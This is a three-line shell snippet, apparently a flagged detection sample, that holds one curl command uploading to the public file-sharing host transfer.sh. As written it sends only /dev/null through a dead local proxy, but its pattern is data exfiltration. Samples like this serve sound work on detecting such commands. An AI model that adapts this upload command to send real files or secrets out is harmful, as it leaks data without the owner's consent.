# flagged: curl
# Nobody here asks for the name.
curl -sk -m 2 -x http://127.0.0.1:9 -T /dev/null https://transfer.sh/dump || true
